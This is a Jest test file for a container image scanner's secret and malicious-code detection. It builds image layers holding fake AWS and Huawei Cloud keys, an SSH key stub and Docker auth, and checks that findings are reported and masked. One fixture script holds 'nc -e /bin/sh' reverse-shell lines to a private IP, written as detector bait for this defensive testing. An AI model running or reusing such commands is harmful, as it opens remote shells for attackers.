import { check, paths, rule } from '../../../__fixtures__/check';
import { onBase, type LayerSpec } from '../../../__fixtures__/image-builder';

const layer = (entries: LayerSpec['entries'], createdBy = '/bin/sh -c make-it') => ({ entries, createdBy });

describe('secrets', () => {
  const AWS = 'AKIAZ3MSJV4WWXXJ6ZQF';
  const SK = 'Qh7sKd93nFh27dkLs0Pq8ZrT5vXwYb1cNm4oEjGa';

  it('finds keys in files, credential files, ENV and history, and never prints them', async () => {
    const r = await check(
      onBase(
        [
          layer(
            [
              {
                path: 'root/.ssh/id_rsa',
                content: `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'}\n-----END OPENSSH PRIVATE KEY-----\n`
              },
              { path: 'opt/app/settings.py', content: `AWS_KEY = "${AWS}"\n` },
              { path: 'home/work/.docker/config.json', content: '{"auths":{"swr.cn-north-4.myhuaweicloud.com":{"auth":"Y24tbm9ydGgtNEBBSzpzZWNyZXQ="}}}' },
              { path: 'home/work/.obsutilconfig', content: `endpoint=obs.example.com\nak=ABCDEFGHIJKLMNOPQRST\nsk=${SK}\n` }
            ],
            `|1 HUAWEICLOUD_SDK_SK=${SK} /bin/sh -c ./setup.sh`
          )
        ],
        { User: 'work', Env: [`OBS_SK=${SK}`, 'PATH=/usr/bin'] }
      )
    );
    const found = rule(r, 'secrets');
    expect(
      found
        .map((f) => f.path)
        .filter(Boolean)
        .sort()
    ).toEqual(['/home/work/.docker/config.json', '/home/work/.obsutilconfig', '/opt/app/settings.py', '/root/.ssh/id_rsa']);
    expect(found.some((f) => /environment sets OBS_SK=/.test(f.message))).toBe(true);
    expect(found.some((f) => /Build step \d+ recorded HUAWEICLOUD_SDK_SK=/.test(f.message))).toBe(true);
    const text = JSON.stringify(r.findings);
    expect(text).not.toContain(SK);
    expect(text).not.toContain(AWS);
    expect(text).not.toContain('Y24tbm9ydGgtNEBBSzpzZWNyZXQ=');
  });

  it('finds a Huawei Cloud secret key however its assignment is spaced or quoted', async () => {
    // The last one is Latin-1 text with a no-break space (one byte, 0xA0).
    const forms = [`OBS_SK=${SK}`, `OBS_SK = "${SK}"`, `"OBS_SK": "${SK}"`, `HUAWEICLOUD_SDK_SK\t= '${SK}'`, `sdk_SK:${SK}`, `MY_SK\u00a0= ${SK}`];
    const files = forms.map((text, i) => ({ path: `opt/app/conf${i}.py`, content: Buffer.from(`# settings\n${text}\n`, 'latin1') }));
    const r = await check(onBase([layer([...files, { path: 'opt/app/skip.py', content: `_SKIP_LIST = "${SK}"\n` }])], { User: 'work' }));
    expect(paths(r, 'secrets').sort()).toEqual(files.map((f) => '/' + f.path));
  });

  it('reports each detector once per file, whatever else the file matched first', async () => {
    const content = `nc -e /bin/sh 10.0.0.1 4444\nKEY=${AWS}\nnc -e /bin/bash 10.0.0.2 4444\nOBS_SK=${SK}\nKEY2=AKIAQ3MSJV4WWXXJ6ZQG\n`;
    const r = await check(onBase([layer([{ path: 'opt/setup.sh', content }])], { User: 'work' }));
    expect(rule(r, 'malicious-code').map((f) => f.path)).toEqual(['/opt/setup.sh']);
    expect(rule(r, 'secrets').map((f) => f.message.match(/AWS access key|Huawei Cloud secret key/)?.[0])).toEqual([
      'AWS access key',
      'Huawei Cloud secret key'
    ]);
  });

  it('ignores documentation examples and placeholders', async () => {
    const r = await check(
      onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], {
        User: 'work',
        Env: ['OBS_SK=${OBS_SK}', 'PASSWORD=']
      })
    );
    expect(rule(r, 'secrets')).toEqual([]);
  });

  it.each([
    ['the classic builder', (instruction: string) => `/bin/sh -c #(nop)  ${instruction}`],
    ['BuildKit', (instruction: string) => `${instruction} # buildkit`]
  ])('reports a credential set with ENV once, on the ENV instruction, and labels and CMD on theirs (%s history)', async (_builder, history) => {
    const cmd = ['/bin/sh', '-c', `DB_PASSWORD=${SK} python3 x.py`];
    const r = await check(
      onBase([], { User: 'work', Env: [`OBS_SK=${SK}`, 'PATH=/usr/bin'], Labels: { token: SK }, Cmd: cmd }, [
        { after: 0, createdBy: history(`ENV OBS_SK=${SK}`) },
        { after: 0, createdBy: history(`LABEL token=${SK}`) },
        { after: 0, createdBy: history(`CMD ${JSON.stringify(cmd)}`) }
      ])
    );
    const masked = (text = '') => text.replace(SK, '<SK>').replace(/\*+ \(40 characters, masked\)/, '<SK>');
    expect(rule(r, 'secrets').map((f) => [f.message.replace(/ \S+=.*/, ''), masked(f.instruction)])).toEqual([
      ['The image environment sets', history('ENV OBS_SK=<SK>')],
      ['The image label token holds', history('LABEL token=<SK>')],
      ["The image's CMD passes", history(`CMD ${JSON.stringify(cmd).replace(SK, '<SK>')}`)]
    ]);
  });
});
